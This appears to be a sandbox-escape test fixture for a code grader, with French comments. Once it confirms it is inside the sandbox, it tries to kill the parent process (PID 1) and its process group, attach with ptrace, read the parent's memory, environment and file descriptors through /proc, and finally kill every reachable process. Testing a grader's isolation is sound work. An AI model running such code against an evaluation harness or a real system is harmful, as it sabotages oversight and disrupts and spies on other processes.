# ---
# why: tue, arrête, interrompt, espionne et modifie le processus parent et tous les autres
# base: stub
# points: 0
# ---
# %% before="sigmoide"
import os
import socket

if socket.gethostname() != "salle-de-tp" or b"graders.judge.trunk" not in open("/proc/1/cmdline", "rb").read():
    raise SystemExit("ATTAQUE NON LANCÉE : hors du bac à sable")
print("ATTAQUE LANCÉE", flush=True)
LANCEE = True
import contextlib
import ctypes
import signal
import subprocess

systeme = ctypes.CDLL(None, use_errno=True)
for numero in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGSEGV, signal.SIGKILL):
    with contextlib.suppress(OSError):
        os.kill(1, numero)
    with contextlib.suppress(OSError):
        os.killpg(os.getpgid(1), numero)
print("ptrace", "RÉUSSI" if systeme.ptrace(16, 1, 0, 0) == 0 else "refusé")
tampon = ctypes.create_string_buffer(64)
zone = (ctypes.c_size_t * 2)(ctypes.addressof(tampon), 64)
print("process_vm_readv", "RÉUSSI" if systeme.process_vm_readv(1, zone, 1, zone, 1, 0) >= 0 else "refusé")
for chemin, mode in (("mem", "r+b"), ("maps", "rb"), ("environ", "rb"), ("oom_score_adj", "w"), ("clear_refs", "w")):
    try:
        with open(f"/proc/1/{chemin}", mode) as fichier:
            fichier.write("1000") if mode == "w" else fichier.read(1)
        print(chemin, "RÉUSSI")
    except OSError:
        print(chemin, "refusé")
for numero in range(64):
    with contextlib.suppress(OSError):
        os.open(f"/proc/1/fd/{numero}", os.O_RDONLY | os.O_NONBLOCK)
        print("descripteur du parent", numero, "RÉUSSI")

# %% after="modele"
if globals().get("LANCEE"):
    os.kill(-1, 9)
